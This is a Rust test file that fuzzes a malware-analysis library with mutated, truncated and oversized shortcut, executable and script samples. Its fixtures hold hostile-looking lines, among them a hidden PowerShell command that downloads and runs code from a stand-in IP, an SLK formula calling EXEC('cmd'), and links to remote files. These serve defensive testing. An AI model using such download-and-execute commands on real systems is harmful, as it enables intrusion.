//! Hostile input: mutations, truncation, huge declared lengths.

mod common;

use std::time::{Duration, Instant};

use common::*;
use mozu_script::{
    MAX_PAYLOADS, MAX_SCRIPT_BYTES, analyse_lnk, analyse_pe, analyse_script, decode_powershell_encoded, decode_vbe,
};

const LANGUAGES: &[&str] = &[
    "vbs", "vbe", "js", "jse", "wsf", "wsc", "hta", "ps1", "bat", "cmd", "iqy", "slk", "url", "sct",
];

fn lnk_fixture() -> Vec<u8> {
    build_lnk(&LnkSpec {
        id_list: true,
        link_info: true,
        environment_block: true,
        unicode: true,
        arguments: format!("-w hidden -enc {}", encode_command("IEX (iwr http://198.51.100.7/a)")),
        working_dir: "C:\\Users\\Public".to_string(),
    })
}

fn script_fixtures() -> Vec<Vec<u8>> {
    vec![
        format!("powershell -enc {}\r\n", encode_command("Start-Process calc")).into_bytes(),
        script_encode("Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"calc\"\r\n").into_bytes(),
        b"WEB\r\n1\r\nhttp://203.0.113.7/x.dat\r\n".to_vec(),
        b"ID;P\r\nC;X1;Y1;K0;E=EXEC(\"cmd\")\r\nE\r\n".to_vec(),
        b"[InternetShortcut]\r\nURL=file://203.0.113.5/share/a.exe\r\n".to_vec(),
    ]
}

#[test]
fn mutated_shortcuts_and_executables() {
    let mut rng = XorShift(0x2545_F491_4F6C_DD1D);
    let fixtures = [lnk_fixture(), build_pe(false, 1, 0x102), build_pe(true, 1, 0x2022)];
    let mut cases = 0;
    for round in 0..6_000 {
        let mut bytes = fixtures[round % fixtures.len()].clone();
        mutate(&mut bytes, &mut rng);
        let lnk = analyse_lnk(&bytes);
        assert!(lnk.children.len() <= MAX_PAYLOADS);
        let _ = analyse_pe(&bytes);
        cases += 1;
    }
    assert_eq!(cases, 6_000);
}

#[test]
fn mutated_scripts() {
    let mut rng = XorShift(7);
    let fixtures = script_fixtures();
    let mut cases = 0;
    for round in 0..4_000 {
        let mut bytes = fixtures[round % fixtures.len()].clone();
        mutate(&mut bytes, &mut rng);
        let language = LANGUAGES[rng.below(LANGUAGES.len())];
        let analysis = analyse_script(&bytes, language);
        assert!(analysis.children.len() <= MAX_PAYLOADS);
        let text = String::from_utf8_lossy(&bytes);
        let _ = decode_vbe(&text);
        let _ = decode_powershell_encoded(&text);
        cases += 1;
    }
    assert!(cases > 0);
}

#[test]
fn every_truncation() {
    let mut cases = 0;
    let mut inputs = vec![lnk_fixture(), build_pe(false, 1, 0x102), build_pe(true, 1, 0x22)];
    inputs.extend(script_fixtures());
    for input in &inputs {
        for cut in 0..=input.len() {
            let prefix = &input[..cut];
            let _ = analyse_lnk(prefix);
            let _ = analyse_pe(prefix);
            let _ = analyse_script(prefix, "vbe");
            cases += 1;
        }
    }
    assert!(cases > 2_000, "{cases}");
}

#[test]
fn huge_declared_lengths() {
    let mut lnk = lnk_fixture();
    lnk[0x4C..0x4E].copy_from_slice(&0xFFFFu16.to_le_bytes()); // IDListSize
    assert!(!analyse_lnk(&lnk).warnings.is_empty());
    let mut lnk = build_lnk(&LnkSpec {
        id_list: false,
        link_info: true,
        environment_block: false,
        unicode: true,
        arguments: "x".to_string(),
        working_dir: String::new(),
    });
    lnk[0x4C..0x50].copy_from_slice(&u32::MAX.to_le_bytes()); // LinkInfoSize
    assert!(!analyse_lnk(&lnk).warnings.is_empty());
    let mut pe = build_pe(false, 1, 0x102);
    pe[0x86..0x88].copy_from_slice(&0xFFFFu16.to_le_bytes()); // NumberOfSections
    assert!(analyse_pe(&pe).warnings.iter().any(|w| w.contains("sections")));
    let mut pe = build_pe(false, 1, 0x102);
    pe[0x3C..0x40].copy_from_slice(&0xFFFF_FFF0u32.to_le_bytes()); // e_lfanew
    assert!(analyse_pe(&pe).info.is_none());
    // Import thunks that never end before the file does.
    let mut pe = build_pe(false, 1, 0x102);
    for byte in &mut pe[0x440..0x800] {
        *byte = 0x41;
    }
    assert!(analyse_pe(&pe).warnings.iter().any(|w| w.contains("truncated")));
}

#[test]
fn oversized_and_degenerate_scripts() {
    let started = Instant::now();
    let big = vec![b'A'; MAX_SCRIPT_BYTES + 1];
    let analysis = analyse_script(&big, "js");
    assert!(analysis.warnings.iter().any(|w| w.contains("cut")));
    let markers = "#@~^".repeat(200_000);
    let _ = analyse_script(markers.as_bytes(), "vbe");
    let many = format!("powershell -enc {}\n", encode_command("calc")).repeat(500);
    let analysis = analyse_script(many.as_bytes(), "bat");
    assert_eq!(analysis.children.len(), 1, "identical payloads are kept once");
    let distinct: String = (0..200)
        .map(|n| format!("powershell -e {}\n", encode_command(&format!("calc {n}"))))
        .collect();
    let analysis = analyse_script(distinct.as_bytes(), "cmd");
    assert_eq!(analysis.children.len(), MAX_PAYLOADS);
    assert!(analysis.warnings.iter().any(|w| w.contains("decoded payloads")));
    let quotes = "\"+\"".repeat(1_000_000);
    let _ = analyse_script(quotes.as_bytes(), "js");
    assert!(started.elapsed() < Duration::from_secs(60));
}

#[test]
fn random_noise() {
    let mut rng = XorShift(99);
    let mut cases = 0;
    for _ in 0..1_000 {
        let bytes: Vec<u8> = (0..rng.below(2048)).map(|_| rng.next() as u8).collect();
        let _ = analyse_lnk(&bytes);
        let _ = analyse_pe(&bytes);
        let _ = analyse_script(&bytes, LANGUAGES[rng.below(LANGUAGES.len())]);
        cases += 1;
    }
    assert!(cases > 0);
}
